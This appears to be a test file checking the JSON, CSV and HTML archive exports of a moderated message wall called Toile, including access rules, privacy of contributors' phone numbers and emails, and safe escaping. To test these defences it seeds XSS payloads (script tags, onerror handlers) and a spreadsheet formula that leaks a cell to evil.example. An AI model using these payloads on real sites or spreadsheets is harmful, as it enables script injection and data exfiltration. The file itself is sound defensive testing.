import { DomUtils, parseDocument } from 'htmlparser2';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { archiveHtml } from '../../server/domain/archive-html.js';
import { createExporter } from '../../server/services/export.js';
import { channelServerOptions, gradientPng, MEDIA_ORIGIN, seedEveryChannel, type SeededWall } from '../helpers/channels.js';
import { startServer, type TestResponse, type TestServer } from '../helpers/server.js';
import { ACCOUNT_SID, postTwilio, twilioParams } from '../helpers/twilio.js';

/**
 * The archive of a wall fed by every channel (tests/helpers/channels.ts: an SMS through Twilio, an email
 * with a picture through Postmark, the web form, an API bridge, Mastodon and Bluesky), plus messages left
 * pending, rejected and hidden, a hostile one and one written to run as a spreadsheet formula.
 */

/** The contributors' private addresses, as they reached Toile: none may leave it in an archive. */
const SEEDED_PHONE = '+33612340001';
const SEEDED_EMAIL = 'lea.martin@example.org';
const PENDING_PHONE = '+33698765432';

const HOSTILE_TEXT = '<script>window.__pwned=1</script> "onerror="alert(1)" \u202Eevil\u202C 🎉👩‍👩‍👧 مرحبا & done';
const HOSTILE_NAME = '<img src=x onerror=alert(2)>';
const FORMULA_TEXT = '=HYPERLINK("https://evil.example/?leak="&A1,"click")';
const FORMULA_NAME = '@SUM(1+1)';
const CSV_TEXT = 'A "quoted" word, a comma\nand a second line';

interface Listed {
  id: number;
  status: string;
  text: string;
  author: { name: string };
  media: { url: string; alt?: string }[];
}

let server: TestServer;
let seeded: SeededWall;
let admin: Record<string, string>;
let moderator: Record<string, string>;
/** Every message of the wall, as the moderation API lists it (newest first). */
let listed: Listed[];
let ids: { pending: number; rejected: number; hidden: number; hostile: number; formula: number; csv: number };

beforeAll(async () => {
  server = await startServer(channelServerOptions());
  seeded = await seedEveryChannel(server);
  admin = { authorization: `Bearer ${await server.adminToken()}` };
  moderator = { authorization: `Bearer ${server.app.toile.auth.createToken('moderator', 'moderator', 'tests').token}` };

  const sms = await postTwilio(server, twilioParams({ MessageSid: 'SM9999999999999999999999999999pend', From: PENDING_PHONE, Body: 'SMSPENDING still waiting' }));
  expect(sms.status).toBe(200);
  const rejected = await server.ingest('REJECTEDONE not for the wall', { name: 'Rémi' });
  expect((await server.request('POST', `/api/messages/${rejected}/reject`, {}, admin)).status).toBe(200);
  const hidden = await server.ingest('HIDDENONE shown, then hidden', { name: 'Hélène' });
  await server.approve(hidden);
  expect((await server.request('POST', `/api/messages/${hidden}/hide`, {}, admin)).status).toBe(200);
  const hostile = await server.ingest(HOSTILE_TEXT, { name: HOSTILE_NAME });
  await server.approve(hostile);
  const formula = await server.ingest(FORMULA_TEXT, { name: FORMULA_NAME });
  await server.approve(formula);
  const csv = await server.ingest(CSV_TEXT, { name: 'Zoé, "la" comptable' });
  await server.approve(csv);

  listed = (await server.request('GET', '/api/walls/capcomnet/messages?limit=500', undefined, admin)).body.items as Listed[];
  const pending = listed.find((m) => m.text.includes('SMSPENDING'))!.id;
  ids = { pending, rejected, hidden, hostile, formula, csv };
}, 30_000);

afterAll(async () => {
  await seeded?.close();
  await server?.close({ removeData: true });
});

const get = (path: string, headers: Record<string, string>) => server.request('GET', path, undefined, headers);
const approvedIds = () => listed.filter((m) => m.status === 'approved').map((m) => m.id).sort((a, b) => a - b);
const today = () => new Date().toISOString().slice(0, 10);

/** Reads CSV as a spreadsheet would (RFC 4180): quoted cells may hold commas, quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 1;
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

/**
 * A CSV export as a spreadsheet gets the file: its bytes decoded keeping the byte order mark (`fetch`'s
 * `text()` would drop it, as a browser does).
 */
async function getCsv(path: string, headers: Record<string, string>): Promise<TestResponse> {
  const response = await fetch(server.url + path, { headers });
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await response.arrayBuffer());
  return { status: response.status, headers: response.headers, text, body: text };
}

/** The CSV's rows as objects by column name, once its byte order mark is checked and removed. */
function csvRecords(response: TestResponse): Record<string, string>[] {
  expect(response.text.startsWith('\uFEFF')).toBe(true);
  const [header, ...rows] = parseCsv(response.text.slice(1));
  return rows.map((row) => Object.fromEntries(header!.map((name, i) => [name, row[i] ?? ''])));
}

describe('the archive as JSON', () => {
  it('gives a moderator the wall and its approved messages, newest first, as a file, without the audit log', async () => {
    const response = await get('/api/walls/capcomnet/export?format=json', moderator);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/^application\/json/);
    expect(response.headers.get('content-disposition')).toBe(`attachment; filename="capcomnet-${today()}.json"`);
    expect(response.headers.get('cache-control')).toBe('private, no-store');
    const body = response.body;
    expect(body.wall.slug).toBe('capcomnet');
    expect(body.wall.title).toBe('Cap’Com');
    expect(Date.parse(body.exportedAt)).not.toBeNaN();
    expect(body.scope).toBe('approved');
    expect(body.audit).toBeUndefined();
    const messages = body.messages as { id: number; createdAt: string; status?: string; sender?: unknown }[];
    expect(messages.map((m) => m.id).sort((a, b) => a - b)).toEqual(approvedIds());
    for (const m of messages) {
      expect(m.status).toBeUndefined();
      expect(m).not.toHaveProperty('sender');
    }
    const times = messages.map((m) => m.createdAt);
    expect(times).toEqual([...times].sort().reverse());
    // The public view, as the wall got it: the email's picture is Toile's own, the SMS has a masked label.
    const mail = messages.find((m) => m.id === seeded.messages.find((s) => s.kind === 'image' && s.channel === 'email')!.id) as unknown as Listed;
    expect(mail.media[0]!.url).toMatch(/^\/media\/[a-f0-9]{64}\.png$/);
    const sms = messages.find((m) => m.id === seeded.messages.find((s) => s.channel === 'sms')!.id) as unknown as Listed;
    expect(sms.author.name).toBe('SMS ••01');
  });

  it('adds the wall’s audit log for an admin', async () => {
    const response = await get('/api/walls/capcomnet/export', admin);
    expect(response.status).toBe(200);
    expect(response.body.scope).toBe('approved');
    expect((response.body.messages as { id: number }[]).map((m) => m.id).sort((a, b) => a - b)).toEqual(approvedIds());
    const audit = response.body.audit as { action: string; targetId: string | null; wall: string }[];
    expect(audit.length).toBeGreaterThan(0);
    expect(audit.every((row) => row.wall === 'capcomnet')).toBe(true);
    expect(audit.some((row) => row.action === 'hide' && row.targetId === String(ids.hidden))).toBe(true);
    expect(audit.some((row) => row.action === 'reject' && row.targetId === String(ids.rejected))).toBe(true);
  });

  it('gives an admin every message with its status and decision (all=1), and refuses it to a moderator', async () => {
    const refused = await get('/api/walls/capcomnet/export?format=json&all=1', moderator);
    expect(refused.status).toBe(403);
    expect(refused.body.code).toBe('forbidden');
    for (const format of ['csv', 'html']) expect((await get(`/api/walls/capcomnet/export?format=${format}&all=1`, moderator)).status).toBe(403);

    const response = await get('/api/walls/capcomnet/export?format=json&all=1', admin);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-disposition')).toBe(`attachment; filename="capcomnet-all-${today()}.json"`);
    expect(response.body.scope).toBe('all');
    const messages = response.body.messages as { id: number; status: string; reasons: string[]; decidedBy: string | null; version: number }[];
    expect(messages.map((m) => m.id).sort((a, b) => a - b)).toEqual(listed.map((m) => m.id).sort((a, b) => a - b));
    const status = (id: number) => messages.find((m) => m.id === id)!.status;
    expect(status(ids.pending)).toBe('pending');
    expect(status(ids.rejected)).toBe('rejected');
    expect(status(ids.hidden)).toBe('hidden');
    expect(status(ids.hostile)).toBe('approved');
    expect(new Set(messages.map((m) => m.status))).toEqual(new Set(['pending', 'approved', 'rejected', 'hidden']));
    const hidden = messages.find((m) => m.id === ids.hidden)!;
    expect(hidden.decidedBy).toBe('token:tests');
    expect(hidden.version).toBeGreaterThan(1);
    expect(messages.every((m) => !('sender' in m))).toBe(true);
  });
});

describe('the archive as CSV', () => {
  it('is an RFC 4180 attachment with a byte order mark, one row per approved message, that a spreadsheet reads back', async () => {
    const response = await getCsv('/api/walls/capcomnet/export?format=csv', moderator);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe(`attachment; filename="capcomnet-${today()}.csv"`);
    expect(response.text.endsWith('\r\n')).toBe(true);
    expect(response.text.replaceAll('\r\n', '')).not.toMatch(/\r(?!\n)/);
    const records = csvRecords(response);
    expect(Object.keys(records[0]!)).toEqual(['id', 'createdAt', 'channel', 'source', 'authorName', 'authorHandle', 'text', 'contentWarning', 'media', 'pinned', 'badge']);
    expect(records.map((r) => Number(r.id)).sort((a, b) => a - b)).toEqual(approvedIds());

    const byId = (id: number) => records.find((r) => Number(r.id) === id)!;
    // Quotes, commas and line breaks survive the round trip.
    expect(byId(ids.csv).text).toBe(listed.find((m) => m.id === ids.csv)!.text);
    expect(byId(ids.csv).authorName).toBe('Zoé, "la" comptable');
    // Toile's own pictures as absolute addresses; the others as they are.
    const mail = byId(seeded.messages.find((s) => s.kind === 'image' && s.channel === 'email')!.id);
    expect(mail.media).toMatch(new RegExp(`^${server.url}/media/[a-f0-9]{64}\\.png$`));
    expect(byId(seeded.messages.find((s) => s.source === 'mastodon')!.id).media).toBe(`${MEDIA_ORIGIN}/photos/scene.png`);
  });

  it('escapes a cell a spreadsheet would run as a formula with a leading apostrophe', async () => {
    const records = csvRecords(await getCsv('/api/walls/capcomnet/export?format=csv', moderator));
    const row = records.find((r) => Number(r.id) === ids.formula)!;
    expect(row.text).toBe(`'${FORMULA_TEXT}`);
    expect(row.authorName).toBe(`'${FORMULA_NAME}`);
    // No cell of the file starts with what a spreadsheet reads as a formula.
    for (const record of records) for (const cell of Object.values(record)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('adds the decision columns for an admin’s complete archive', async () => {
    const response = await getCsv('/api/walls/capcomnet/export?format=csv&all=1', admin);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-disposition')).toBe(`attachment; filename="capcomnet-all-${today()}.csv"`);
    const records = csvRecords(response);
    expect(Object.keys(records[0]!).slice(-6)).toEqual(['status', 'reasons', 'receivedAt', 'decidedAt', 'decidedBy', 'version']);
    expect(records).toHaveLength(listed.length);
    const row = records.find((r) => Number(r.id) === ids.rejected)!;
    expect(row.status).toBe('rejected');
    expect(row.decidedBy).toBe('token:tests');
    expect(new Set(records.map((r) => r.status))).toEqual(new Set(['pending', 'approved', 'rejected', 'hidden']));
  });
});

describe('the archive as one HTML page', () => {
  it('is a self-contained attachment: inline style, a policy that loads nothing, no script, no outside address', async () => {
    const response = await get('/api/walls/capcomnet/export?format=html', moderator);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/html; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe(`attachment; filename="capcomnet-${today()}.html"`);
    const html = response.text;
    const doc = parseDocument(html);
    const elements = DomUtils.findAll(() => true, doc.children);
    const csp = elements.find((e) => e.name === 'meta' && e.attribs['http-equiv'] === 'Content-Security-Policy');
    expect(csp?.attribs.content).toBe("default-src 'none'; img-src data:; style-src 'unsafe-inline'");
    expect(DomUtils.textContent(elements.find((e) => e.name === 'title')!)).toBe('Cap’Com');
    for (const forbidden of ['script', 'link', 'iframe', 'object', 'embed', 'form', 'a', 'base', 'svg']) {
      expect(elements.filter((e) => e.name === forbidden), forbidden).toEqual([]);
    }
    for (const element of elements) {
      for (const [name, value] of Object.entries(element.attribs)) {
        expect(name, `${element.name} has ${name}`).not.toMatch(/^on/i);
        if (name === 'src') expect(value).toMatch(/^data:image\/(?:png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]+$/);
        expect(['href', 'srcset', 'action', 'poster', 'background']).not.toContain(name);
      }
    }
    // The social pictures and avatars live elsewhere: neither fetched nor named.
    expect(html).not.toContain(MEDIA_ORIGIN);
    expect(html).not.toContain('/media/');
  });

  it('shows every approved message as a card, newest first, and nothing else', async () => {
    const html = (await get('/api/walls/capcomnet/export?format=html', moderator)).text;
    const doc = parseDocument(html);
    const cards = DomUtils.findAll((e) => e.name === 'li' && e.attribs.class?.split(' ').includes('card') === true, doc.children);
    expect(cards.map((c) => Number(c.attribs['data-id'])).sort((a, b) => a - b)).toEqual(approvedIds());
    const json = (await get('/api/walls/capcomnet/export?format=json', moderator)).body.messages as { id: number }[];
    expect(cards.map((c) => Number(c.attribs['data-id']))).toEqual(json.map((m) => m.id));
    for (const card of cards) {
      const stored = listed.find((m) => m.id === Number(card.attribs['data-id']))!;
      const text = DomUtils.findOne((e) => e.attribs.class === 'text', card.children);
      if (stored.text !== '') expect(text && DomUtils.textContent(text)).toBe(stored.text);
      expect(DomUtils.textContent(DomUtils.findOne((e) => e.attribs.class === 'name', card.children)!)).toBe(stored.author.name);
    }
    for (const word of ['SMSPENDING', 'REJECTEDONE', 'HIDDENONE']) expect(html).not.toContain(word);
  });

  it('shows hostile text as text: escaped, isolated, never markup', async () => {
    const html = (await get('/api/walls/capcomnet/export?format=html', moderator)).text;
    const stored = listed.find((m) => m.id === ids.hostile)!;
    expect(html).not.toContain('<script>');
    expect(html).not.toContain('<img src=x');
    expect(html).toContain('&lt;script&gt;window.__pwned=1&lt;/script&gt; &quot;onerror=&quot;alert(1)&quot;');
    expect(html).toContain('&lt;img src=x onerror=alert(2)&gt;');
    const doc = parseDocument(html);
    const card = DomUtils.findOne((e) => e.attribs['data-id'] === String(ids.hostile), doc.children)!;
    const text = DomUtils.findOne((e) => e.attribs.class === 'text', card.children)!;
    expect(DomUtils.textContent(text)).toBe(stored.text);
    expect(stored.text).toContain('🎉👩‍👩‍👧 مرحبا & done');
    expect(text.attribs.dir).toBe('auto');
    expect(DomUtils.textContent(DomUtils.findOne((e) => e.attribs.class === 'name', card.children)!)).toBe(HOSTILE_NAME);
  });

  it('embeds the pictures Toile stored, and names the others by their description', async () => {
    const html = (await get('/api/walls/capcomnet/export?format=html', moderator)).text;
    const doc = parseDocument(html);
    const mail = seeded.messages.find((s) => s.kind === 'image' && s.channel === 'email')!;
    const card = DomUtils.findOne((e) => e.attribs['data-id'] === String(mail.id), doc.children)!;
    const img = DomUtils.findOne((e) => e.name === 'img', card.children)!;
    const bytes = Buffer.from(img.attribs.src!.replace(/^data:image\/png;base64,/, ''), 'base64');
    expect(bytes.equals(gradientPng(96, 64))).toBe(true);

    const mastodon = DomUtils.findOne((e) => e.attribs['data-id'] === String(seeded.messages.find((s) => s.source === 'mastodon')!.id), doc.children)!;
    expect(DomUtils.findOne((e) => e.name === 'img', mastodon.children)).toBeNull();
    expect(DomUtils.textContent(DomUtils.findOne((e) => e.attribs.class === 'missing', mastodon.children)!)).toBe(
      'Picture not included: La scène, vue du troisième rang',
    );
  });

  it('keeps a post behind its content warning, to be opened by the reader', async () => {
    const doc = parseDocument((await get('/api/walls/capcomnet/export?format=html', moderator)).text);
    const warned = seeded.messages.find((s) => s.kind === 'warning')!;
    const card = DomUtils.findOne((e) => e.attribs['data-id'] === String(warned.id), doc.children)!;
    const details = DomUtils.findOne((e) => e.name === 'details', card.children)!;
    expect(details.attribs.open).toBeUndefined();
    expect(DomUtils.textContent(DomUtils.findOne((e) => e.name === 'summary', details.children)!)).toBe(warned.contentWarning);
    expect(DomUtils.textContent(DomUtils.findOne((e) => e.attribs.class === 'text', details.children)!)).toBe(warned.text);
  });

  it('leaves pictures out past its budget, and says so', async () => {
    const { repos, media, now } = server.app.toile;
    const exporter = createExporter(repos, media.dir, now);
    const wall = repos.walls.bySlug('capcomnet')!;
    const archive = exporter.collect(wall, 'approved', false);
    const pictures = await exporter.pictures(archive, 10);
    expect(pictures.embedded.size).toBe(0);
    expect(pictures.leftOut).toBe(1);
    const html = archiveHtml(archive, pictures);
    expect(html).not.toContain('<img');
    expect(html).toContain('1 picture was left out to keep the pictures of this page under 0 MB.');
  });

  it('gives an admin’s complete archive each card’s status and decision', async () => {
    const response = await get('/api/walls/capcomnet/export?format=html&all=1', admin);
    expect(response.status).toBe(200);
    const doc = parseDocument(response.text);
    const card = DomUtils.findOne((e) => e.attribs['data-id'] === String(ids.rejected), doc.children)!;
    expect(DomUtils.textContent(DomUtils.findOne((e) => e.attribs.class?.startsWith('status') === true, card.children)!)).toBe('Rejected');
    expect(DomUtils.textContent(DomUtils.findOne((e) => e.attribs.class === 'decision', card.children)!)).toMatch(/^decided by token:tests · /);
    expect(response.text).toContain('not for publication');
  });
});

describe('privacy of the archive', () => {
  it('never carries a contributor’s phone number, email address or raw payload, in any format, for anyone', async () => {
    // The addresses as they arrived, and in the forms a search would try (digits only, national format).
    const needles = [SEEDED_PHONE, SEEDED_PHONE.slice(1), '0612340001', PENDING_PHONE, PENDING_PHONE.slice(1), '0698765432', SEEDED_EMAIL, 'lea.martin', ACCOUNT_SID, 'MessageSid', 'FromFull'];
    const { repos } = server.app.toile;
    // The seeded messages did reach Toile with those addresses: the test would prove nothing otherwise.
    const senders = repos.messages.list(repos.walls.bySlug('capcomnet')!.id, { limit: 500 }).map((m) => m.sender?.address);
    expect(senders).toEqual(expect.arrayContaining([SEEDED_PHONE, PENDING_PHONE, SEEDED_EMAIL]));
    for (const [who, headers] of [['moderator', moderator], ['admin', admin]] as const) {
      for (const query of ['format=json', 'format=csv', 'format=html', ...(who === 'admin' ? ['format=json&all=1', 'format=csv&all=1', 'format=html&all=1'] : [])]) {
        const response = await get(`/api/walls/capcomnet/export?${query}`, headers);
        expect(response.status).toBe(200);
        for (const needle of needles) expect(response.text, `${who} ${query} has ${needle}`).not.toContain(needle);
      }
    }
  });
});

describe('who may export', () => {
  it('answers 404 for an unknown wall, 401 without credentials and 403 to an ingest token', async () => {
    const missing = await get('/api/walls/nope/export?format=csv', moderator);
    expect(missing.status).toBe(404);
    expect(missing.body.code).toBe('not_found');
    expect((await get('/api/walls/capcomnet/export', {})).status).toBe(401);
    const ingest = { authorization: `Bearer ${server.app.toile.auth.createToken('bridge', 'ingest', 'tests').token}` };
    expect((await get('/api/walls/capcomnet/export', ingest)).status).toBe(403);
    expect((await get('/api/walls/capcomnet/export?format=pdf', moderator)).status).toBe(400);
  });

  it('works with a moderator’s session cookie, as the console sends it', async () => {
    expect((await server.request('POST', '/api/users', { username: 'marie', password: 'a long enough password', role: 'moderator' }, admin)).status).toBe(201);
    const session = await server.logIn('marie', 'a long enough password');
    const response = await get('/api/walls/capcomnet/export?format=html', { cookie: session.cookie });
    expect(response.status).toBe(200);
    expect(response.text).toContain('<!doctype html>');
  });
});
